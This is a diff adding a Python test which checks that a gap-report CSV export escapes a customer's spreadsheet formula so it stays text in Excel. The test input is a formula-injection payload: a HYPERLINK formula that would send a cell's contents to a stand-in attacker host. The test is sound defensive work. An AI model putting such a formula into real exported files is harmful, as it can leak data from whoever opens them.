@@ -311,3 +311,21 @@ def test_the_report_never_shows_the_assistants_draft_as_a_persons_reply(tmp_path
     assert groups_frame([group])["human reply"].iloc[0] == "agent's note: Checking with the tea master."
     group.human_replies = [{"ticket": 3, "text": "Yes: e-gift cards of ¥100.", "kind": "reply"}]
     assert groups_frame([group])["human reply"].iloc[0] == "Yes: e-gift cards of ¥100."
+
+
+def test_a_customers_formula_in_the_gap_export_stays_text_in_excel(tmp_path):
+    import csv
+    from datetime import datetime
+
+    from assistant.insights.gaps import GapGroup, export_csv
+
+    now = datetime(2026, 1, 1)
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"查看订单")'
+    group = GapGroup("k", formula, 1, 1, 1.0, now, now, {"zh": 1}, {"declined": 1},
+                     [{"time": now, "question": formula, "reason": "declined", "answer": "-1 day", "lang": "zh",
+                       "session_id": "s"}], [1], ["s"])
+    export_csv([group], tmp_path / "gaps.csv")
+    with (tmp_path / "gaps.csv").open(encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["question"] == "'" + formula and row["group"] == "'" + formula
+    assert row["assistant said"] == "'-1 day" and row["rank"] == "1"  # numbers stay numbers
